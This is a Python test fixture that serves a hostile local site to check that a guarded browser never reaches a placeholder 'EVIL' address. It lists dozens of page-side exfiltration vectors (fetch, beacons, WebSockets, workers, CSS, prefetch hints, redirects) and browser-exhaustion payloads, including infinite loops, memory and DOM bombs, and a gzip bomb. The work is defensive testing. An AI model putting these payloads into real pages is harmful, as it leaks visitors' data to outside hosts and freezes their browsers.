"""A site that tries everything a page can try; EVIL is an address it must never reach."""

from collections.abc import Iterator

from rostra_testing import LocalSite, Page

HOST = "www.city.example"
ELSEWHERE = "other.city.example"
HOME = f"http://{HOST}"
WORDS = "市府今天公布第三季統計，擁擠費收入較去年同期增加，主要來自港區與車站周邊。" * 3


def page(script: str = "", body: str = "", head: str = "") -> str:
    return (
        f"<html><head><title>擁擠費</title>{head}</head><body><p>{WORDS}</p>{body}"
        f"<script>{script}</script></body></html>"
    )


# Ways for a page to make its browser send something; each must end at the guard.
SENDS = {
    "img": page(body="<img src='EVIL'><picture><source srcset='EVIL'></picture>"),
    "image-script": page("new Image().src='EVIL'"),
    "iframe": page(body="<iframe src='EVIL'></iframe><iframe srcdoc=\"<img src='EVIL'>\">"),
    "frame-script": page(
        "const f=document.createElement('iframe');document.body.append(f);"
        "f.contentWindow.location='EVIL';f.contentWindow.fetch('EVIL',{mode:'no-cors'})"
    ),
    "fetch": page("fetch('EVIL',{mode:'no-cors',method:'POST',body:'x'})"),
    "xhr": page("const x=new XMLHttpRequest();x.open('GET','EVIL');x.send()"),
    # The first request teaches the browser its key; only then do sockets get past the door.
    "websocket": page("fetch('/ok').then(()=>new WebSocket('EVIL'.replace('http','ws')))"),
    "eventsource": page("new EventSource('EVIL')"),
    "css": page(
        head="<style>@import url('EVIL');body{background:url('EVIL')}"
        "@font-face{font-family:x;src:url('EVIL')}p{font-family:x}</style>"
        "<link rel=stylesheet href='EVIL'>"
    ),
    "hints": page(
        head="<link rel=prefetch href='EVIL'><link rel=preload as=script href='EVIL'>"
        "<link rel=preconnect href='EVIL'><link rel=dns-prefetch href='EVIL'>"
        "<link rel=modulepreload href='EVIL'><link rel=icon href='EVIL'>"
        "<link rel=manifest href='EVIL'>"
        "<script type=speculationrules>"
        '{"prefetch":[{"source":"list","urls":["EVIL"]}],'
        '"prerender":[{"source":"list","urls":["EVIL"]}]}</script>'
    ),
    "script": page(body="<script src='EVIL'></script><script type=module src='EVIL'></script>"),
    "beacon": page("navigator.sendBeacon('EVIL','x');fetch('EVIL',{keepalive:true})"),
    "form": page(
        "const f=document.forms[0];f.submit();f.requestSubmit&&f.requestSubmit()",
        body="<form action='EVIL' method=post><input name=a value=b></form>",
    ),
    "worker": page(
        "const b=new Blob([\"fetch('EVIL',{mode:'no-cors'})\"]);"
        "new Worker(URL.createObjectURL(b));new SharedWorker(URL.createObjectURL(b))"
    ),
    "service-worker": page("navigator.serviceWorker&&navigator.serviceWorker.register('/sw.js')"),
    "media": page(body="<video src='EVIL' autoplay></video><audio src='EVIL' autoplay></audio>"),
    "object": page(body="<object data='EVIL'></object><embed src='EVIL'>"),
    "redirected-part": page("fetch('/to-evil',{mode:'no-cors'})", body="<script src=/to-evil>"),
    "ping": page("document.links[0].click()", body="<a href='#x' ping='EVIL'>go</a>"),
    "download": page("document.links[0].click()", body="<a href='EVIL' download>go</a>"),
    "popup": page("open('EVIL');open('EVIL','_blank','noopener')"),
    "target-blank": page("document.links[0].click()", body="<a href='EVIL' target=_blank>go</a>"),
    "meta-refresh": page(head="<meta http-equiv=refresh content='0;url=EVIL'>"),
    "location": page("location='EVIL'"),
    "location-late": page("setTimeout(()=>location.assign('EVIL'),150)"),
    "top": page("top.location.replace('EVIL')"),
    "unload": page("onpagehide=()=>navigator.sendBeacon('EVIL')"),
    "document-write": page("document.write('<script src=\"EVIL\"></scr'+'ipt>')"),
    "base": page("fetch('x',{mode:'no-cors'})", head="<base href='EVIL'>"),
}

# Pages that want all of something.
BOMBS = {
    "loop": page("for(;;);"),
    "loop-late": page("setTimeout(()=>{for(;;);},50)"),
    "alerts": page("for(;;)alert(1)"),
    "alerts-late": page("setInterval(()=>{alert(1);confirm(2);prompt(3);print()},1)"),
    "dom": page("for(;;)document.body.append(document.createElement('p'))"),
    "dom-deep": page(
        "let a=document.body;for(let i=0;i<100000;i++){const d=document.createElement('div');"
        "a.append(d);a=d}a.textContent='deep'"
    ),
    "memory": page("const a=[];for(;;)a.push(new Uint8Array(5e7).fill(1))"),
    "strings": page("let s='x';const a=[];for(;;){s+=s.slice(0,1e6);a.push(s+a.length)}"),
    "requests": page("setInterval(()=>{for(let i=0;i<50;i++)fetch('/ok?'+Math.random())},1)"),
    "windows": page("setInterval(()=>{for(let i=0;i<50;i++)open('/ok')},1)"),
    "history": page("setInterval(()=>{for(let i=0;i<50;i++)history.pushState(0,'','/h'+i)},1)"),
    "console": page("setInterval(()=>{for(let i=0;i<500;i++)console.log('x'.repeat(1e4))},1)"),
    "reload": page("location.reload()"),
    "frames": page("setInterval(()=>document.body.append(document.createElement('iframe')),0)"),
    "part-bomb": page("fetch('/gzip').then(r=>r.text()).then(t=>document.body.append(t))"),
    "part-endless": page("fetch('/endless').then(r=>r.text())"),
    "part-slow": page("fetch('/slow')", body="<script src=/slow></script>"),
    "deep-html": "<div>" * 100_000 + "deep" + "<script>1</script>",
}


def _slow() -> Iterator[bytes]:
    while True:
        yield b"x"


def put_up(site: LocalSite, evil: str) -> None:
    """Serve everything above; `evil` is where each page wants to go."""
    for name, source in SENDS.items():
        site[f"/send/{name}"] = source.replace("EVIL", evil)
    for name, source in BOMBS.items():
        site[f"/bomb/{name}"] = source
    site["/ok"] = Page("1", content_type="text/javascript")
    site["/to-evil"] = Page.redirect(evil)
    site["/sw.js"] = Page(f"fetch('{evil}')", content_type="text/javascript")
    site["/gzip"] = Page.gzip_bomb(5 << 30)
    site["/endless"] = Page.endless()
    site["/slow"] = Page(_slow, drip=(1, 1.0))
